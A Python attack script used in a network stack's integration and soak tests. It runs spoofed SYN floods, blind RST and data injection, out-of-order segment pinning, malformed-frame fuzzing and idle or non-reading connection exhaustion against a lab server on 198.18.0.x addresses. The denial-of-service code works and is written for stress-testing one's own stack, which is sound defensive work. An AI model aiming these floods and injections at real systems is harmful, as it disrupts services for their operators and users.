#!/usr/bin/env python3
"""attack.py: the attacker of the attack tests (tests/integ/9x_attack_*.sh)
and of scripts/soak.sh.  It runs in the Linux peer's namespace and speaks
raw Ethernet frames on the peer's veth end (an AF_PACKET socket), frames
built with scapy or, where the rate matters, from byte templates.

  attack.py IFACE ooo      CONNS SEGS PPS HOLD
                                             out-of-order pinning: CONNS real
                                             handshakes, then SEGS one-byte
                                             segments each (at PPS frames/s),
                                             every other byte left as a hole;
                                             holds HOLD s, then resets every
                                             connection
  attack.py IFACE synflood DST PPS SECS      SYNs to DST:80 from spoofed
                                             sources, paced at PPS
  attack.py IFACE inject   SECS PPS PORT...  blind RST/SYN/data/ACK with
                                             random sequence numbers at the
                                             connections 198.18.0.2:PORT ->
                                             198.18.0.1:80
  attack.py IFACE malformed N                N malformed frames of many kinds
  attack.py IFACE noread   HOST N BYTES HOLD N kernel-socket clients asking
                                             for BYTES and never reading;
                                             held HOLD s, then closed
  attack.py IFACE idle     HOST N HOLD       N idle connections (never send),
                                             held HOLD s, then closed

The spoofing modes (ooo, synflood) send from addresses the peer's kernel
does not own and a MAC that is not its interface's, so the kernel ignores
the server's answers (frames for another host) instead of resetting
connections it does not know; the attacker answers ARP for its addresses
itself.  Every mode is bounded in time.  Prints one "attack:" line of
figures; exits 1 when it could not do what it was asked.
"""
import os
import random
import select
import socket
import struct
import sys
import time

FS_IP = "198.18.0.1"
PEER_IP = "198.18.0.2"
ATK_IP = "198.18.0.3"  # the out-of-order attacker's own address
ATK_MAC = bytes.fromhex("02a77ac00003")
ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def say(*a):
    print("attack:", *a, flush=True)


def ip4(s):
    return socket.inet_aton(s)


def csum(b):
    if len(b) & 1:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4_hdr(src, dst, proto, plen, ident=0, ttl=64, flags=0x4000):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + plen, ident, flags, ttl, proto, 0, src, dst)
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]


def tcp_frame(dmac, smac, src, dst, sport, dport, seq, ack, flags, win=65535, payload=b"",
              opts=b""):
    """An Ethernet/IPv4/TCP frame with correct checksums (src, dst packed)."""
    off = (20 + len(opts)) // 4
    th = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, off << 4,
                     flags, win, 0, 0) + opts
    seg = th + payload
    ph = struct.pack("!4s4sBBH", src, dst, 0, 6, len(seg))
    c = csum(ph + seg)
    seg = seg[:16] + struct.pack("!H", c) + seg[18:]
    return dmac + smac + struct.pack("!H", ETH_P_IP) + ipv4_hdr(src, dst, 6, len(seg)) + seg


def arp_frame(dmac, smac, op, sha, spa, tha, tpa):
    return dmac + smac + struct.pack("!H", ETH_P_ARP) + struct.pack(
        "!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, op, sha, spa, tha, tpa)


class Link:
    """The raw socket on the peer's veth end."""

    def __init__(self, iface):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
        self.s.bind((iface, 0))
        self.s.setblocking(False)
        self.kmac = bytes.fromhex(open("/sys/class/net/%s/address" % iface).read().strip()
                                  .replace(":", ""))
        self.own = {}  # spoofed IPv4 (packed) -> MAC we answer ARP with
        self.fs_mac = None
        self.sent = 0
        self.arp_answered = 0

    def send(self, frame):
        while True:
            try:
                self.s.send(frame)
                self.sent += 1
                return
            except BlockingIOError:
                select.select([], [self.s], [], 0.01)
            except OSError as e:  # ENOBUFS: the qdisc is full, wait a little
                if e.errno != 105:
                    raise
                time.sleep(0.0005)

    def recv_all(self):
        """Frames waiting now; answers ARP requests for our addresses."""
        out = []
        while True:
            try:
                f, addr = self.s.recvfrom(65535)
            except BlockingIOError:
                return out
            if addr[2] == socket.PACKET_OUTGOING:
                continue
            if len(f) >= 42 and f[12:14] == b"\x08\x06":
                op, sha, spa, tpa = struct.unpack("!6xH6s4s6x4s", f[14:42])
                if op == 1 and tpa in self.own:
                    self.send(arp_frame(sha, self.own[tpa], 2, self.own[tpa], tpa, sha, spa))
                    self.arp_answered += 1
                elif op == 2 and spa == ip4(FS_IP):
                    self.fs_mac = sha
                continue
            out.append(f)

    def wait(self, secs):
        """Answers ARP (and drops the rest) for secs seconds."""
        end = time.monotonic() + secs
        while time.monotonic() < end:
            select.select([self.s], [], [], min(0.05, max(0, end - time.monotonic())))
            self.recv_all()

    def resolve(self, mac=ATK_MAC, ip=ATK_IP):
        """fastack's MAC, by an ARP request from (ip, mac); this also puts
        (ip, mac) in fastack's ARP cache (RFC 826: the target learns)."""
        end = time.monotonic() + 10
        while self.fs_mac is None and time.monotonic() < end:
            self.send(arp_frame(b"\xff" * 6, mac, 1, mac, ip4(ip), b"\0" * 6, ip4(FS_IP)))
            self.wait(0.2)
        if self.fs_mac is None:
            say("FAIL: no ARP reply from", FS_IP)
            sys.exit(1)
        return self.fs_mac


def parse_tcp(f):
    """(src, dst, sport, dport, seq, ack, flags) of an IPv4/TCP frame, or None."""
    if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6:
        return None
    ihl = (f[14] & 15) * 4
    t = 14 + ihl
    if len(f) < t + 20:
        return None
    sport, dport, seq, ack, _, flags = struct.unpack("!HHIIBB", f[t:t + 14])
    return f[26:30], f[30:34], sport, dport, seq, ack, flags


# ---- out-of-order pinning ----

def mss_opt(mss=1460):
    return struct.pack("!BBH", 2, 4, mss)


def handshakes(L, src, sports, dport=80):
    """Opens a connection from each source port; returns {sport: (iss, irs)}."""
    dst = ip4(FS_IP)
    iss = {p: random.getrandbits(32) for p in sports}
    est = {}
    deadline = time.monotonic() + 15
    while len(est) < len(sports) and time.monotonic() < deadline:
        for p in sports:
            if p not in est:
                L.send(tcp_frame(L.fs_mac, ATK_MAC, src, dst, p, dport, iss[p], 0, SYN,
                                 opts=mss_opt()))
        end = time.monotonic() + 1.0
        while len(est) < len(sports) and time.monotonic() < end:
            select.select([L.s], [], [], 0.05)
            for f in L.recv_all():
                t = parse_tcp(f)
                if not t or t[1] != src or t[0] != dst or t[3] not in iss or t[3] in est:
                    continue
                if t[6] & (SYN | ACK) == SYN | ACK and t[5] == (iss[t[3]] + 1) & 0xFFFFFFFF:
                    est[t[3]] = (iss[t[3]] + 1, t[4] + 1)
                    L.send(tcp_frame(L.fs_mac, ATK_MAC, src, dst, t[3], dport, iss[t[3]] + 1,
                                     t[4] + 1, ACK))
    return est


def paced(L, frames, pps):
    """Sends frames at pps (in bursts of 64), answering ARP between bursts."""
    t0 = time.monotonic()
    for i in range(0, len(frames), 64):
        ahead = i / pps - (time.monotonic() - t0)
        if ahead > 0:
            time.sleep(ahead)
        for f in frames[i:i + 64]:
            L.send(f)
        L.recv_all()
    return time.monotonic() - t0


def mode_ooo(L, conns, segs, pps, hold):
    src, dst = ip4(ATK_IP), ip4(FS_IP)
    L.own[src] = ATK_MAC
    L.resolve()
    sports = list(range(20000, 20000 + conns))
    t0 = time.monotonic()
    est = handshakes(L, src, sports)
    say("%d of %d handshakes completed in %.2f s" % (len(est), conns, time.monotonic() - t0))
    if len(est) < conns:
        say("FAIL: not every handshake completed")
        return 1
    # Byte k of each connection's stream is sent for every odd k: the even
    # ones are holes, so nothing is ever in order and all of it queues.
    frames = []
    for p, (snd, rcv) in est.items():
        for k in range(segs, 0, -1):
            frames.append(tcp_frame(L.fs_mac, ATK_MAC, src, dst, p, 80, snd + 2 * k - 1, rcv,
                                    ACK, payload=b"x"))
    n0 = L.sent
    dt = paced(L, frames, pps)
    say("%d out-of-order one-byte segments on %d connections in %.3f s (%.0f frames/s)" %
        (L.sent - n0, len(est), dt, (L.sent - n0) / max(dt, 1e-6)))
    L.wait(hold)
    for p, (snd, rcv) in est.items():
        L.send(tcp_frame(L.fs_mac, ATK_MAC, src, dst, p, 80, snd, 0, RST))
    say("held %.1f s, then reset the %d connections; %d ARP requests answered" %
        (hold, len(est), L.arp_answered))
    return 0


# ---- SYN flood ----

def mode_synflood(L, dst_s, pps, secs):
    """SYNs from random ports of 198.18.0.64..250 (addresses nobody on the
    link answers ARP for: the server's SYN-ACKs wait on ARP and are lost)."""
    dst = ip4(dst_s)
    L.resolve(L.kmac, PEER_IP)
    n = 1 << 16
    rnd = random.Random(17)
    frames = []
    for _ in range(n):
        src = ip4("198.18.0.%d" % rnd.randint(64, 250))
        frames.append(tcp_frame(L.fs_mac, L.kmac, src, dst, rnd.randint(1024, 65535), 80,
                                rnd.getrandbits(32), 0, SYN, win=29200, opts=mss_opt()))
    t0 = time.monotonic()
    end = t0 + secs
    i = sent = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * pps)
        if sent >= due:
            time.sleep(min(0.001, end - now))
            continue
        for _ in range(min(due - sent, 256)):
            L.send(frames[i])
            i = (i + 1) % n
            sent += 1
        L.recv_all()
    dt = time.monotonic() - t0
    say("%d SYNs to %s:80 in %.1f s (%.0f SYN/s)" % (sent, dst_s, dt, sent / dt))
    return 0


# ---- blind injection ----

def mode_inject(L, secs, pps, ports):
    """For each connection 198.18.0.2:port -> 198.18.0.1:80 (4-tuples known,
    sequence numbers not), a rotation of RST, SYN, data and ACK segments with
    random sequence and acknowledgment numbers, with and without a
    timestamp option, sent from the peer's MAC."""
    src, dst = ip4(PEER_IP), ip4(FS_IP)
    L.resolve(L.kmac, PEER_IP)
    rnd = random.Random(5961)
    kinds = [(RST, b""), (RST | ACK, b""), (SYN, b""), (ACK | PSH, b"GET / HTTP/1.1\r\n\r\n"),
             (ACK, b""), (FIN | ACK, b"")]
    counts = {}
    t0 = time.monotonic()
    end = t0 + secs
    sent = 0
    while time.monotonic() < end:
        due = int((time.monotonic() - t0) * pps)
        if sent >= due:
            time.sleep(0.001)
            continue
        for _ in range(min(due - sent, 64)):
            p = ports[sent % len(ports)]
            r = sent // len(ports)
            fl, pl = kinds[r % len(kinds)]
            # Every other round carries a timestamp option with a random
            # TSval (half of them pass PAWS): a connection that uses
            # timestamps drops segments without one before looking further.
            opts = b""
            if (r // len(kinds)) & 1:
                opts = struct.pack("!BBBBII", 1, 1, 8, 10, rnd.getrandbits(32), 0)
            L.send(tcp_frame(L.fs_mac, L.kmac, src, dst, p, 80, rnd.getrandbits(32),
                             rnd.getrandbits(32), fl, win=rnd.randint(0, 65535), payload=pl,
                             opts=opts))
            counts[fl] = counts.get(fl, 0) + 1
            sent += 1
        L.recv_all()
    dt = time.monotonic() - t0
    say("%d blind segments at %d connections in %.1f s (%.0f/s): %d RST, %d RST|ACK, %d SYN, "
        "%d data, %d ACK, %d FIN" % (sent, len(ports), dt, sent / dt, counts.get(RST, 0),
                                     counts.get(RST | ACK, 0), counts.get(SYN, 0),
                                     counts.get(ACK | PSH, 0), counts.get(ACK, 0),
                                     counts.get(FIN | ACK, 0)))
    return 0


# ---- malformed frames ----

def malformed_frames(fs_mac, kmac, n):
    """n frames of many kinds of wrongness, built with scapy."""
    from scapy.all import ARP, ICMP, IP, TCP, UDP, Ether, Raw, fuzz  # noqa: E402

    rnd = random.Random(1)
    src, dst = PEER_IP, FS_IP
    E = Ether(dst=fs_mac, src=kmac)

    def b(p):
        return bytes(p)

    def good_tcp():
        return E / IP(src=src, dst=dst) / TCP(sport=rnd.randint(1024, 65535), dport=80,
                                              flags="S", seq=rnd.getrandbits(32))

    def trunc(p):
        x = b(p)
        return x[:rnd.randint(1, len(x) - 1)]

    kinds = {
        "eth-runt": lambda: b(E)[:rnd.randint(1, 13)],
        "ip-truncated": lambda: trunc(good_tcp()),
        "ip-badver": lambda: b(E / IP(src=src, dst=dst, version=rnd.choice([0, 5, 6, 15])) / TCP()),
        "ip-badihl": lambda: b(E / IP(src=src, dst=dst, ihl=rnd.choice([0, 1, 4, 15])) / TCP()),
        "ip-len-short": lambda: b(E / IP(src=src, dst=dst, len=rnd.randint(0, 39)) / TCP()),
        "ip-len-long": lambda: b(E / IP(src=src, dst=dst, len=rnd.randint(60, 65535)) / TCP()),
        "ip-badsum": lambda: b(E / IP(src=src, dst=dst, chksum=rnd.randint(0, 65535)) / TCP()),
        "ip-options": lambda: b(E / IP(src=src, dst=dst, ihl=rnd.randint(6, 15)) /
                                Raw(os.urandom(40))),
        "ip-src-bcast": lambda: b(E / IP(src=rnd.choice(["255.255.255.255", "198.18.0.255",
                                                         "224.0.0.1", "127.0.0.1", FS_IP]),
                                         dst=dst) / TCP(dport=80, flags="S")),
        "ip-proto": lambda: b(E / IP(src=src, dst=dst, proto=rnd.choice([0, 2, 41, 50, 132,
                                                                         253])) /
                              Raw(os.urandom(rnd.randint(0, 64)))),
        "fragment": lambda: b(E / IP(src=src, dst=dst, flags=rnd.choice([0, 1]),
                                     frag=rnd.randint(0, 8191), id=rnd.randint(0, 65535)) /
                              UDP(dport=7) / Raw(os.urandom(rnd.randint(0, 100)))),
        "tcp-badoff": lambda: b(E / IP(src=src, dst=dst) / TCP(dport=80, flags="S",
                                                               dataofs=rnd.choice([0, 1, 4, 15]))),
        "tcp-badsum": lambda: b(E / IP(src=src, dst=dst) / TCP(dport=80, flags="S",
                                                               chksum=rnd.randint(0, 65535))),
        "tcp-options": lambda: b(E / IP(src=src, dst=dst) /
                                 TCP(dport=80, flags="S", seq=rnd.getrandbits(32),
                                     dataofs=rnd.randint(6, 15)) /
                                 Raw(bytes(rnd.choice([0, 1, 2, 3, 4, 5, 8, 30, 34, 255])
                                           for _ in range(40)))),
        "tcp-flags": lambda: b(E / IP(src=src, dst=dst) /
                               TCP(sport=rnd.randint(1024, 65535), dport=80,
                                   flags=rnd.randint(0, 255), seq=rnd.getrandbits(32),
                                   ack=rnd.getrandbits(32), urgptr=rnd.randint(0, 65535)) /
                               Raw(os.urandom(rnd.randint(0, 20)))),
        "tcp-fuzz": lambda: b(E / IP(src=src, dst=dst) / fuzz(TCP(dport=80))),
        "udp-badlen": lambda: b(E / IP(src=src, dst=dst) / UDP(dport=7, len=rnd.choice(
            [0, 1, 7, 9, 200, 65535])) / Raw(b"abc")),
        "udp-badsum": lambda: b(E / IP(src=src, dst=dst) / UDP(dport=7, chksum=rnd.randint(
            1, 65535)) / Raw(b"hello")),
        "icmp-fuzz": lambda: b(E / IP(src=src, dst=dst) / fuzz(ICMP()) /
                               Raw(os.urandom(rnd.randint(0, 40)))),
        "icmp-error-garbage": lambda: b(E / IP(src=src, dst=dst) /
                                        ICMP(type=rnd.choice([3, 4, 5, 11, 12]),
                                             code=rnd.randint(0, 15)) /
                                        Raw(os.urandom(rnd.randint(0, 60)))),
        "arp-bogus": lambda: b(Ether(dst=rnd.choice(["ff:ff:ff:ff:ff:ff", fs_mac]), src=kmac,
                                     type=ETH_P_ARP)) +
        struct.pack("!HHBBH", rnd.choice([1, 1, 6, 0xFFFF]), rnd.choice([0x800, 0x800, 0x86DD, 0]),
                    rnd.choice([6, 6, 0, 255]), rnd.choice([4, 4, 0, 16]), rnd.randint(0, 10)) +
        bytes.fromhex(kmac.replace(":", "")) +
        ip4(rnd.choice(["0.0.0.0", "255.255.255.255", "198.18.0.77", FS_IP, "224.0.0.1"])) +
        b"\0" * 6 + ip4(FS_IP),
        "arp-truncated": lambda: trunc(Ether(dst="ff:ff:ff:ff:ff:ff", src=kmac) /
                                       ARP(op=1, psrc="198.18.0.78", pdst=FS_IP)),
        "vlan-garbage": lambda: b(E)[:12] + b"\x81\x00" + os.urandom(rnd.randint(0, 60)),
        "ethertype-junk": lambda: b(E)[:12] + struct.pack("!H", rnd.choice(
            [0x86DD, 0x88CC, 0x0000, 0xFFFF])) + os.urandom(rnd.randint(0, 80)),
    }
    names = sorted(kinds)
    out = []
    for i in range(n):
        k = names[i % len(names)]
        out.append((k, kinds[k]()))
    return out


def mode_malformed(L, n):
    fs_mac = L.resolve(L.kmac, PEER_IP)
    mac = ":".join("%02x" % x for x in fs_mac)
    kmac = ":".join("%02x" % x for x in L.kmac)
    frames = malformed_frames(mac, kmac, n)
    t0 = time.monotonic()
    for i, (_, f) in enumerate(frames):
        if len(f) < 14:  # a runt: the kernel pads what it sends to 14 bytes at least
            f = f + b"\0" * (14 - len(f))
        L.send(f)
        if i % 64 == 0:
            L.recv_all()
            time.sleep(0.001)
    kinds = sorted({k for k, _ in frames})
    say("%d malformed frames of %d kinds in %.2f s: %s" % (len(frames), len(kinds),
                                                           time.monotonic() - t0,
                                                           " ".join(kinds)))
    return 0


# ---- kernel-socket clients (no spoofing) ----

def open_clients(host, n, rcvbuf=0, request=None, wait=15.0):
    """n non-blocking connects; returns the connected sockets."""
    pending, done = [], []
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.setblocking(False)
        try:
            s.connect((host, 80))
        except BlockingIOError:
            pass
        pending.append(s)
    end = time.monotonic() + wait
    poll = select.poll()
    byfd = {s.fileno(): s for s in pending}
    for fd in byfd:
        poll.register(fd, select.POLLOUT)
    while byfd and time.monotonic() < end:
        for fd, _ in poll.poll(200):
            s = byfd.pop(fd)
            poll.unregister(fd)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                if request:
                    s.send(request)
                done.append(s)
            else:
                s.close()
    pending = list(byfd.values())
    for s in pending:
        s.close()
    return done


def mode_noread(host, n, nbytes, hold):
    req = b"GET /bytes/%d HTTP/1.1\r\nHost: x\r\n\r\n" % nbytes
    t0 = time.monotonic()
    cs = open_clients(host, n, rcvbuf=2048, request=req)
    say("%d of %d non-reading clients connected and asked for %d bytes in %.1f s" %
        (len(cs), n, nbytes, time.monotonic() - t0))
    time.sleep(hold)
    for s in cs:
        s.close()
    say("held %.1f s, then closed them" % hold)
    return 0 if len(cs) == n else 1


def mode_idle(host, n, hold):
    t0 = time.monotonic()
    cs = open_clients(host, n, wait=3.0)
    say("%d of %d idle clients connected in %.1f s" % (len(cs), n, time.monotonic() - t0))
    time.sleep(hold)
    for s in cs:
        s.close()
    say("released at %.3f" % time.time())
    return 0


def main(argv):
    if len(argv) < 3:
        print(__doc__)
        return 2
    iface, mode, a = argv[1], argv[2], argv[3:]
    if mode == "noread":
        return mode_noread(a[0], int(a[1]), int(a[2]), float(a[3]))
    if mode == "idle":
        return mode_idle(a[0], int(a[1]), float(a[2]))
    L = Link(iface)
    if mode == "ooo":
        return mode_ooo(L, int(a[0]), int(a[1]), float(a[2]), float(a[3]))
    if mode == "synflood":
        return mode_synflood(L, a[0], float(a[1]), float(a[2]))
    if mode == "inject":
        return mode_inject(L, float(a[0]), float(a[1]), [int(p) for p in a[2:]])
    if mode == "malformed":
        return mode_malformed(L, int(a[0]))
    print(__doc__)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
